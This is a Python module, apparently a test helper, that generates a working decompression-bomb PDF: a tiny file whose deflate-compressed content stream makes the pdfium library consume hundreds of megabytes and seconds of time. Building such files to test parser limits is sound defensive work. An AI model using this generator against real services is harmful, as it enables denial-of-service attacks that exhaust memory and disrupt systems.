"""Hostile PDFs, made here: small files that make pdfium use a lot of memory and time.

A one-page PDF whose content stream is a deflate bomb of path operators: a few tens of KB on
disk, hundreds of MB (and seconds) for pdfium to read the page's text. Memory and time grow
with `decompressed` (about 20x the decompressed size in memory, on pdfium 6xxx)."""

from __future__ import annotations

import zlib

PATH_OPS = b"0 0 m 1 1 l S\n" * 4096


def flate_bomb_pdf(decompressed: int) -> bytes:
    packer = zlib.compressobj(9)
    parts, size = [], 0
    while size < decompressed:
        parts.append(packer.compress(PATH_OPS))
        size += len(PATH_OPS)
    parts.append(packer.flush())
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out
